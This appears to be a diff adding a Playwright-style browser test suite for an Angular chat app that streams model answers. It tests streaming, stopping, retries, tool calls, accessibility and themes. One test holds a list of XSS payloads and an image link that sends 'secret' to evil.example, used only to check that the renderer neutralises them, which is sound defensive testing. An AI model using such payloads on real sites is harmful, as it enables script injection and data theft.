@@ -1,0 +1,709 @@
+// Drives the built app in Chromium against mock providers. Where Chromium is not installed, only CI fails.
+import assert from 'node:assert/strict';
+import { mkdirSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import { streamChatCompletions, toServerSentEvents } from 'rxjs-chat-completions';
+import { startMockProvider } from 'rxjs-chat-completions/mock-provider';
+import { checks } from '../../../scripts/checks.mjs';
+import { demoAnswer } from './answers.mjs';
+import { chromiumPath, gate, openChat, pieces, startChromium } from './browser.mjs';
+import { startStaticServer } from './static-server.mjs';
+
+if (chromiumPath === undefined) {
+  console.log('Chromium is not installed: the chat was not driven.');
+  process.exit(process.env.CI === 'true' ? 1 : 0);
+}
+
+/** Runs the tests alone that have this in their names: `npm test -- keyboard`. */
+const only = process.argv[2];
+const { check, finish } = checks();
+const server = await startStaticServer();
+const chromium = await startChromium();
+
+/** A named test with a page of its own. No script error and no refusal of the policy passes. */
+async function test(name, options, run) {
+  if (only !== undefined && !name.includes(only)) return;
+  await check(name, async () => {
+    const chat = await openChat(chromium.browser, server, options);
+    try {
+      await run(chat);
+      assert.deepEqual(chat.problems, []);
+    } finally {
+      await chat.close();
+    }
+  });
+}
+
+const until = (page, what, argument) => page.waitForFunction(what, argument);
+const textIs = (locator, text) =>
+  locator.filter({ hasText: new RegExp(`^\\s*${text}\\s*$`) }).waitFor({ timeout: 20_000 });
+const button = (page, name) => page.getByRole('button', { name, exact: true });
+const focused = (page) =>
+  page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.id);
+
+/** Keeps what the live region says. */
+async function listen(page) {
+  await page.evaluate(() => {
+    window.said = [];
+    const region = document.querySelector('app-live-region');
+    new MutationObserver(() => window.said.push(region.textContent.trim())).observe(region, {
+      childList: true,
+      characterData: true,
+      subtree: true,
+    });
+  });
+  return () => page.evaluate(() => window.said);
+}
+
+await test(
+  '2,000 tokens at full speed: change detection runs once a frame at the most',
+  { answers: [{ content: Array.from({ length: 2_000 }, (_, index) => `w${index} `) }] },
+  async ({ page, ask, answers }) => {
+    await page.evaluate(() => {
+      performance.clearMarks();
+      window.frames_ = 0;
+      const count = () => {
+        window.frames_ += 1;
+        requestAnimationFrame(count);
+      };
+      requestAnimationFrame(count);
+      window.longTasks = 0;
+      new PerformanceObserver((list) => (window.longTasks += list.getEntries().length)).observe({
+        type: 'longtask',
+      });
+    });
+    await ask('Count');
+    await button(page, 'Regenerate').waitFor();
+    assert.match(await answers.innerText(), /^w0 w1 .* w1999\s/);
+    const { renders, frames, longTasks } = await page.evaluate(() => ({
+      renders: performance.getEntriesByName('chat: render').length,
+      frames: window.frames_,
+      longTasks: window.longTasks,
+    }));
+    console.log(`      2000 tokens, ${renders} renders, ${frames} frames, ${longTasks} tasks over 50 ms`);
+    // Typing, sending, the end and the conversation's name are renders of their own.
+    assert.ok(renders <= frames + 10, `${renders} renders in ${frames} frames`);
+    assert.ok(renders < 500, `${renders} renders`);
+  },
+);
+
+const rest = gate();
+await test(
+  'tokens are shown as they come, Markdown in blocks that stay',
+  { answers: [{ content: pieces('# One\n\nHel', rest.opened, 'lo **you**') }] },
+  async ({ page, ask, answers }) => {
+    await ask('Hi');
+    await textIs(answers.locator('p').first(), 'Hel');
+    await answers.locator('h3').evaluate((heading) => (heading.isTheSame = true));
+    assert.equal(await page.locator('article').getAttribute('aria-busy'), 'true');
+    rest.open();
+    await textIs(answers.locator('p').first(), 'Hello you');
+    await textIs(answers.locator('strong'), 'you');
+    assert.ok(await answers.locator('h3').evaluate((heading) => heading.isTheSame));
+    await button(page, 'Regenerate').waitFor();
+    assert.equal(await page.locator('article').getAttribute('aria-busy'), 'false');
+  },
+);
+
+await test(
+  'stopping reaches the provider, keeps the text, and the next question sends it along',
+  { answers: [{ content: ['Hel', { wait: Infinity }] }, { content: 'Again' }] },
+  async ({ page, ask, answers, provider, asked }) => {
+    await ask('First');
+    await textIs(answers.locator('p').first(), 'Hel');
+    await button(page, 'Stop').click();
+    await provider.whenAborted();
+    await page.getByText('You stopped this answer.').waitFor();
+    assert.equal(await answers.locator('p').first().innerText(), 'Hel');
+    assert.equal(await focused(page), 'Send');
+    await ask('Second');
+    await textIs(answers.nth(1).locator('p').first(), 'Again');
+    const [, second] = asked();
+    assert.deepEqual(
+      second.body.messages.map(({ role, content }) => [role, content]),
+      [
+        ['system', 'Answer shortly, in Markdown.'],
+        ['user', 'First'],
+        ['assistant', 'Hel'],
+        ['user', 'Second'],
+      ],
+    );
+  },
+);
+
+await test(
+  'the wait for a retry is counted down, and not read aloud',
+  {
+    answers: [{ status: 429, retryAfter: { wait: 30_000 } }, { content: 'Here.' }],
+    prepare: (page) => page.clock.install(),
+  },
+  async ({ page, ask, answers, asked }) => {
+    const said = await listen(page);
+    await ask('Hi');
+    const seconds = page.getByRole('timer');
+    await seconds.waitFor();
+    await page.clock.pauseAt(await page.evaluate(() => Date.now() + 1_000));
+    const first = parseInt(await seconds.innerText(), 10);
+    assert.ok(first > 20 && first <= 30, `${first} s`);
+    await page.clock.runFor(10_000);
+    assert.equal(parseInt(await seconds.innerText(), 10), first - 10);
+    assert.equal(asked().length, 1);
+    await page.clock.resume();
+    await page.clock.fastForward(first * 1_000);
+    await textIs(answers.locator('p').first(), 'Here\\.');
+    assert.equal(asked().length, 2);
+    await button(page, 'Regenerate').waitFor();
+    assert.equal(await page.getByRole('timer').count(), 0);
+    assert.deepEqual(await said(), [
+      'Answering.',
+      'The server is busy. The question is asked again.',
+      'Answer: Here.',
+    ]);
+  },
+);
+
+await test(
+  'a stop during that wait sends nothing more',
+  { answers: [{ status: 503, retryAfter: { wait: 60_000 } }] },
+  async ({ page, ask, asked }) => {
+    await ask('Hi');
+    await page.getByRole('timer').waitFor();
+    await page.keyboard.press('Escape');
+    await page.getByText('You stopped this answer.').waitFor();
+    assert.equal(await page.getByRole('timer').count(), 0);
+    assert.equal(asked().length, 1);
+  },
+);
+
+await test(
+  'a connection that breaks keeps the text, and trying again replaces it',
+  { answers: [{ content: ['Half an ', { wait: 100 }, { cut: 'reset' }] }, { content: 'A whole answer.' }] },
+  async ({ page, ask, answers, asked }) => {
+    const said = await listen(page);
+    await ask('Hi');
+    await page.getByText('The connection broke').first().waitFor();
+    assert.match(await answers.innerText(), /^Half an\s/);
+    assert.deepEqual(await said(), [
+      'Answering.',
+      'The connection broke. The answer ended too early. What had arrived is kept.',
+    ]);
+    await button(page, 'Try again').click();
+    await textIs(answers.locator('p').first(), 'A whole answer\\.');
+    assert.equal(await focused(page), 'question');
+    assert.equal(await answers.count(), 1);
+    assert.deepEqual(asked()[1].body.messages, asked()[0].body.messages);
+  },
+);
+
+await test(
+  'a page that is offline asks again, says so in the end, and recovers when it is told to',
+  { answers: [{ content: 'Back.' }] },
+  async ({ page, context, ask, answers }) => {
+    await context.setOffline(true);
+    await ask('Hi');
+    await button(page, 'Try again').waitFor();
+    await page.getByText('The server cannot be reached').first().waitFor();
+    await context.setOffline(false);
+    await button(page, 'Try again').click();
+    await textIs(answers.locator('p').first(), 'Back\\.');
+  },
+);
+
+await test(
+  'an answer that is under way when the page goes offline is an error that keeps the text',
+  { answers: [{ content: ['Half an ', { wait: Infinity }] }, { content: 'A whole answer.' }] },
+  async ({ page, context, ask, answers }) => {
+    await ask('Hi');
+    await textIs(answers.locator('p').first(), 'Half an');
+    await context.setOffline(true);
+    await page.getByText('The connection broke').first().waitFor();
+    assert.match(await answers.innerText(), /^Half an\s/);
+    await context.setOffline(false);
+    await button(page, 'Try again').click();
+    await textIs(answers.locator('p').first(), 'A whole answer\\.');
+  },
+);
+
+await test(
+  'a status that is not retried is told in the words of a user',
+  { answers: [{ status: 401 }] },
+  async ({ page, ask, asked }) => {
+    await ask('Hi');
+    await page.getByText('You may not ask this model').first().waitFor();
+    assert.equal(asked().length, 1);
+  },
+);
+
+const attack = [
+  '<img src=x onerror="window.pwned=1">',
+  '<script>window.pwned=1</script>',
+  '<svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=1">svg</a></svg>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<p style="position:fixed;inset:0" class="card error" id="question" onclick="window.pwned=1">over it all</p>',
+  '<form action="https://evil.example"><input name=q><button>go</button></form>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
+  '[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [good](https://good.example/)',
+  '![carry](https://evil.example/?q=secret)',
+  '```html"onload="window.pwned=1\n<img src=x onerror="window.pwned=1">\n```',
+].join('\n\n');
+await test(
+  'hostile Markdown is inert: no script, no image, no style, no request',
+  { answers: [{ content: attack }] },
+  async ({ page, context, ask, answers, problems }) => {
+    const requests = [];
+    context.on('request', (request) => requests.push(new URL(request.url()).hostname));
+    await ask('Attack');
+    await button(page, 'Regenerate').waitFor();
+    const found = await answers.locator('.markdown').evaluate((element) => {
+      const all = [...element.querySelectorAll('*')];
+      return {
+        pwned: 'pwned' in window,
+        elements: [...new Set(all.map(({ localName }) => localName))].sort(),
+        attributes: [...new Set(all.flatMap((one) => one.getAttributeNames()))].sort(),
+        links: [...element.querySelectorAll('a')].map(({ href, rel }) => [href, rel]),
+      };
+    });
+    assert.deepEqual(found, {
+      pwned: false,
+      elements: ['a', 'button', 'code', 'figcaption', 'figure', 'p', 'pre', 'span'],
+      attributes: ['href', 'rel', 'tabindex', 'target', 'type'],
+      links: [
+        ['https://good.example/', 'noopener noreferrer nofollow'],
+        ['https://evil.example/?q=secret', 'noopener noreferrer nofollow'],
+      ],
+    });
+    for (const link of await answers.locator('p', { hasText: 'over it all' }).all()) await link.click();
+    assert.equal(await page.evaluate(() => 'pwned' in window), false);
+    assert.deepEqual([...new Set(requests)], ['127.0.0.1']);
+    assert.deepEqual(problems, []);
+  },
+);
+
+const [args, done] = [gate(), gate()];
+await test(
+  'a tool call is a card that grows, its tool runs, and the model is told',
+  {
+    answers: [
+      {
+        content: pieces(
+          { reasoning: 'I need a clock.' },
+          {
+            delta: {
+              tool_calls: [
+                {
+                  index: 0,
+                  id: 'c1',
+                  type: 'function',
+                  function: { name: 'local_time', arguments: '{"time_' },
+                },
+              ],
+            },
+          },
+          args.opened,
+          { delta: { tool_calls: [{ index: 0, function: { arguments: 'zone":"Asia/Tokyo"}' } }] } },
+        ),
+        finishReason: 'tool_calls',
+      },
+      { content: pieces('It is ', done.opened, 'late.') },
+    ],
+  },
+  async ({ page, ask, answers, asked }) => {
+    const said = await listen(page);
+    await ask('What time is it in Tokyo?');
+    const card = page.getByRole('region', { name: 'Tool local_time' });
+    await card.getByText('{\n  "time_').waitFor();
+    assert.equal(await card.locator('.state').innerText(), 'Writing…');
+    args.open();
+    await card.getByText('Done').waitFor();
+    assert.equal(await card.locator('pre').innerText(), '{\n  "time_zone": "Asia/Tokyo"\n}');
+    const output = (await card.locator('.output').innerText()).replace(/^Result:\s*/, '');
+    assert.match(output, /\d{4}.*\d\d:\d\d/);
+    done.open();
+    await answers.getByText('It is late.').waitFor();
+    const [first, second] = asked();
+    assert.equal(first.body.tools[0].function.name, 'local_time');
+    assert.deepEqual(
+      second.body.messages
+        .slice(2)
+        .map(({ role, content, tool_calls: calls }) => [role, calls?.[0].function.arguments ?? content]),
+      [
+        ['assistant', '{"time_zone":"Asia/Tokyo"}'],
+        ['tool', output],
+      ],
+    );
+    await button(page, 'Regenerate').waitFor();
+    assert.deepEqual(await said(), ['Answering.', 'Answer: It is late.']);
+  },
+);
+
+await test(
+  'a tool that fails is told to the model, and nothing breaks',
+  {
+    answers: [
+      {
+        content: [
+          { toolCall: { name: 'local_time', arguments: '{"time_zone": ' } },
+          { toolCall: { name: 'unknown' } },
+        ],
+      },
+      { content: 'I cannot tell.' },
+    ],
+  },
+  async ({ page, ask, answers, asked }) => {
+    await ask('Time?');
+    await answers.getByText('I cannot tell.').waitFor();
+    const outputs = asked()[1].body.messages.filter(({ role }) => role === 'tool');
+    assert.match(outputs[0].content, /^Error: .*JSON/);
+    assert.equal(outputs[1].content, 'Error: There is no such tool.');
+    assert.equal(await page.getByText('Done').count(), 2);
+  },
+);
+
+await test(
+  'reasoning is folded until it is opened, by keyboard too',
+  { answers: [{ content: [{ reasoning: 'First I think.' }, 'Then I answer.'] }] },
+  async ({ page, ask, answers }) => {
+    await ask('Hi');
+    await answers.getByText('Then I answer.').waitFor();
+    assert.equal(await page.getByText('First I think.').isVisible(), false);
+    await page.locator('summary').focus();
+    await page.keyboard.press('Enter');
+    assert.equal(await page.getByText('First I think.').isVisible(), true);
+  },
+);
+
+await test(
+  'keyboard alone: write two lines, send, stop, ask again, change colours, start anew',
+  { answers: [{ content: ['Hel', { wait: Infinity }] }, { content: 'Hello.' }] },
+  async ({ page, answers, asked, question }) => {
+    const tabTo = async (name) => {
+      for (let presses = 0; presses < 20; presses += 1) {
+        const label = await page.evaluate(() => {
+          const { activeElement: element } = document;
+          return element?.getAttribute('aria-label') ?? element?.textContent?.trim();
+        });
+        if (label === name) return;
+        await page.keyboard.press('Tab');
+      }
+      assert.fail(`${name} is not reached by Tab`);
+    };
+    assert.equal(await focused(page), 'question');
+    await page.keyboard.type('One');
+    await page.keyboard.press('Shift+Enter');
+    await page.keyboard.type('Two');
+    assert.equal(await question.inputValue(), 'One\nTwo');
+    await page.keyboard.press('Enter');
+    await textIs(answers.locator('p').first(), 'Hel');
+    assert.equal(asked()[0].body.messages.at(-1).content, 'One\nTwo');
+    assert.equal(await question.inputValue(), '');
+    await page.keyboard.press('Escape');
+    await page.getByText('You stopped this answer.').waitFor();
+    await tabTo('Regenerate');
+    await page.keyboard.press('Enter');
+    await textIs(answers.locator('p').first(), 'Hello\\.');
+    assert.equal(await focused(page), 'question');
+    await tabTo('Colours: system');
+    await page.keyboard.press('Enter');
+    await until(page, () => document.documentElement.dataset.theme === 'light');
+    await tabTo('New chat');
+    await page.keyboard.press('Enter');
+    await page.getByText('What would you like to know?').waitFor();
+    assert.equal(await focused(page), 'question');
+  },
+);
+
+await test(
+  'Enter that ends the composition of a word does not send',
+  {},
+  async ({ page, question, asked }) => {
+    await question.fill('にほん');
+    await question.dispatchEvent('keydown', {
+      key: 'Enter',
+      isComposing: true,
+      bubbles: true,
+      cancelable: true,
+    });
+    assert.equal(await question.inputValue(), 'にほん');
+    assert.equal(await page.locator('article').count(), 0);
+    assert.equal(asked().length, 0);
+  },
+);
+
+await test(
+  'the live region says that an answer begins and what it was, and nothing in between',
+  { answers: [{ content: Array.from({ length: 200 }, () => 'word ') }], pace: 2 },
+  async ({ page, ask, answers }) => {
+    const said = await listen(page);
+    await ask('Hi');
+    await button(page, 'Regenerate').waitFor();
+    assert.deepEqual(await said(), ['Answering.', 'The answer is there: 200 words.']);
+    assert.equal(
+      await answers.evaluate((element) => element.closest('[aria-live], [role=log], [role=status]')),
+      null,
+    );
+  },
+);
+
+await test(
+  'the name of the conversation comes from a turn of its own, after the first answer',
+  { answers: [{ content: 'One.' }, { content: 'Two.' }] },
+  async ({ page, ask, answers, provider }) => {
+    await ask('Hi');
+    await page.getByRole('heading', { level: 1, name: 'A name for it' }).waitFor();
+    await until(page, () => document.title === 'A name for it · Chat');
+    await ask('And?');
+    await answers.getByText('Two.').waitFor();
+    assert.equal(provider.requests.length, 3);
+  },
+);
+
+await test(
+  'HttpClient as the transport: interceptors run, tokens stream, a stop reaches the provider',
+  {
+    answers: [{ status: 429, retryAfter: { wait: 100 } }, { content: ['Grüße 👋 ', { wait: Infinity }] }],
+    settings: { 'chat-connection': 'http-client' },
+  },
+  async ({ page, ask, answers, asked, provider }) => {
+    await ask('Hi');
+    await textIs(answers.locator('p').first(), 'Grüße 👋');
+    assert.deepEqual(
+      asked().map(({ headers }) => headers['x-requested-with']),
+      ['chat-in-angular', 'chat-in-angular'],
+    );
+    await page.keyboard.press('Escape');
+    await provider.whenAborted();
+    await page.getByText('You stopped this answer.').waitFor();
+  },
+);
+
+await test(
+  'HttpClient as the transport: error statuses, breaks and redirects are what they are over fetch',
+  {
+    answers: [
+      { status: 401, error: { message: 'No.', code: 'invalid_api_key' } },
+      { content: ['Half an ', { wait: 100 }, { cut: 'reset' }] },
+      { status: 307, headers: { location: '/v1/chat/completions' } },
+      { content: 'A whole answer.' },
+    ],
+    settings: { 'chat-connection': 'http-client' },
+  },
+  async ({ page, ask, answers, asked }) => {
+    await ask('Hi');
+    await page.getByText('You may not ask this model').first().waitFor();
+    await button(page, 'Try again').click();
+    await page.getByText('The connection broke').first().waitFor();
+    assert.match(await answers.innerText(), /^Half an\s/);
+    await button(page, 'Try again').click();
+    await page.getByText('The server cannot be reached').first().waitFor();
+    assert.equal(asked().length, 3);
+    await button(page, 'Try again').click();
+    await textIs(answers.locator('p').first(), 'A whole answer\\.');
+    assert.equal(asked().length, 4);
+  },
+);
+
+await test(
+  'fetch as the transport: interceptors do not run',
+  { answers: [{ content: 'Hi.' }] },
+  async ({ ask, answers, asked }) => {
+    await ask('Hi');
+    await answers.getByText('Hi.').waitFor();
+    assert.equal(asked()[0].headers['x-requested-with'], undefined);
+  },
+);
+
+await test(
+  'a reader who has scrolled away is left there, and can return',
+  {
+    answers: [
+      { content: [...Array.from({ length: 80 }, (_, line) => `Line ${line}\n\n`), { wait: Infinity }] },
+      {},
+    ],
+    pace: 5,
+  },
+  async ({ page, ask }) => {
+    await ask('Hi');
+    const main = page.locator('main');
+    await until(page, () => document.querySelector('main').scrollTop > 200);
+    await main.hover();
+    await page.mouse.wheel(0, -100_000);
+    await button(page, 'Latest').waitFor();
+    await page.getByText('Line 79').waitFor({ state: 'attached' });
+    assert.equal(await main.evaluate(({ scrollTop }) => scrollTop), 0);
+    await button(page, 'Latest').click();
+    await button(page, 'Latest').waitFor({ state: 'detached' });
+    assert.ok((await main.evaluate(({ scrollTop }) => scrollTop)) > 200);
+  },
+);
+
+await test(
+  'copying takes the code as it was written',
+  {
+    answers: [{ content: '```ts\nconst a = 1 < 2;\n```' }],
+    context: { permissions: ['clipboard-read', 'clipboard-write'] },
+  },
+  async ({ page, ask }) => {
+    await ask('Code');
+    await button(page, 'Regenerate').waitFor();
+    await page.locator('figcaption').getByRole('button').click();
+    await page.locator('figcaption').getByText('Copied').waitFor();
+    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'const a = 1 < 2;\n');
+  },
+);
+
+await test(
+  'colours follow the system until a reader chooses, and the choice stays',
+  { context: { colorScheme: 'dark' } },
+  async ({ page }) => {
+    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
+    const dark = await background();
+    await button(page, 'Colours: system').click();
+    await until(page, (before) => getComputedStyle(document.body).backgroundColor !== before, dark);
+    const light = await background();
+    await page.reload();
+    await button(page, 'Colours: light').waitFor();
+    assert.equal(await background(), light);
+    await page.emulateMedia({ colorScheme: 'light' });
+    await button(page, 'Colours: light').click();
+    await until(page, (before) => getComputedStyle(document.body).backgroundColor === before, dark);
+  },
+);
+
+await test(
+  'nothing moves where a reader asks for less motion',
+  { answers: [{ content: ['Hel', { wait: Infinity }] }], context: { reducedMotion: 'reduce' } },
+  async ({ page, ask, answers }) => {
+    await ask('Hi');
+    await textIs(answers.locator('p').first(), 'Hel');
+    assert.equal(await page.evaluate(() => document.getAnimations().length), 0);
+  },
+);
+
+// A backend that has the key, and speaks the library's own protocol to its front end.
+if (only === undefined || 'backend'.includes(only)) {
+  const upstream = await startMockProvider({ pace: 0 });
+  const backend = await startStaticServer({
+    handle(request, response) {
+      if (request.url !== '/api/chat') return false;
+      let text = '';
+      request.on('data', (chunk) => (text += chunk));
+      request.on('end', () => {
+        const options = {
+          model: 'mock',
+          provider: { name: 'mock', baseUrl: upstream.baseUrl, apiKey: 'sk-of-the-backend' },
+        };
+        response.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' });
+        const writing = streamChatCompletions(JSON.parse(text).prompt, options)
+          .pipe(toServerSentEvents())
+          .subscribe({ next: (message) => response.write(message), complete: () => response.end() });
+        response.on('close', () => writing.unsubscribe());
+      });
+      return true;
+    },
+  });
+  await check(
+    'over a backend with fromServerSentEvents(): an answer, a stop that reaches the provider, an error',
+    async () => {
+      const { page, ask, answers, close, problems } = await openChat(chromium.browser, backend, {
+        settings: { 'chat-connection': 'backend' },
+        prepare: (opened) => opened.route('**/v1/**', (route) => route.abort()),
+      });
+      try {
+        upstream.enqueue(
+          { content: ['Hel', { wait: Infinity }] },
+          { content: 'From the backend.' },
+          {},
+          { status: 401 },
+        );
+        await ask('Hi');
+        await textIs(answers.locator('p').first(), 'Hel');
+        await page.keyboard.press('Escape');
+        await upstream.whenAborted();
+        await button(page, 'Regenerate').click();
+        await textIs(answers.locator('p').first(), 'From the backend\\.');
+        await upstream.whenRequested(3);
+        await upstream.whenIdle();
+        await ask('Again');
+        await page.getByText('You may not ask this model').first().waitFor();
+        assert.equal(upstream.requests[0].headers.authorization, 'Bearer sk-of-the-backend');
+        assert.deepEqual(problems, []);
+      } finally {
+        await close();
+        await backend.close();
+        await upstream.close();
+      }
+    },
+  );
+}
+
+const folder = fileURLToPath(new URL('screenshots/', import.meta.url));
+mkdirSync(folder, { recursive: true });
+for (const [scheme, width, height] of [
+  ['light', 1100, 800],
+  ['dark', 1100, 800],
+  ['light', 390, 844],
+]) {
+  const name = width < 500 ? 'narrow' : scheme;
+  const shot = (page, state) => page.screenshot({ path: `${folder}${name}-${state}.png` });
+  const context = { viewport: { width, height }, colorScheme: scheme, deviceScaleFactor: 1.5 };
+  const questions = [
+    'What time is it in Tokyo?',
+    'Show me a debounce in TypeScript',
+    'Compare tea and coffee in a table',
+  ];
+  await test(
+    `every state fits the page, and is there to be looked at (${name})`,
+    {
+      context,
+      name: demoAnswer,
+      answers: [
+        ...[demoAnswer, demoAnswer, demoAnswer, demoAnswer],
+        { status: 429, retryAfter: { wait: 60_000 } },
+        {
+          content: [
+            'The sky is blue because air scatters short waves of light far more than ',
+            { wait: 100 },
+            { cut: 'reset' },
+          ],
+        },
+        { content: ['The sky is blue because air scatters short waves ', { wait: Infinity }] },
+      ],
+    },
+    async ({ page, ask }) => {
+      const fits = () => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);
+      await shot(page, '1-welcome');
+      for (const [index, asking] of questions.entries()) {
+        await ask(asking);
+        await page.locator('article').nth(index).locator('footer').waitFor();
+        assert.ok(await fits());
+        await until(page, () => {
+          const main = document.querySelector('main');
+          return main.scrollHeight - main.scrollTop - main.clientHeight < 2;
+        });
+        if (index === 0) {
+          await page.locator('summary').click();
+          await page.locator('main').evaluate((main) => (main.scrollTop = 0));
+        }
+        await shot(page, `${index + 2}-${['tool', 'code', 'table'][index]}`);
+      }
+      await ask('Why is the sky blue?');
+      await page.getByRole('timer').waitFor();
+      await shot(page, '5-retry');
+      await page.keyboard.press('Escape');
+      await button(page, 'Regenerate').click();
+      await button(page, 'Try again').waitFor();
+      assert.ok(await fits());
+      await shot(page, '6-error');
+      await button(page, 'Try again').click();
+      await page.getByText('scatters short waves').waitFor();
+      await shot(page, '7-streaming');
+      await page.keyboard.press('Escape');
+      await page.getByText('You stopped this answer.').waitFor();
+      await shot(page, '8-stopped');
+    },
+  );
+}
+
+await chromium.close();
+await server.close();
+finish();
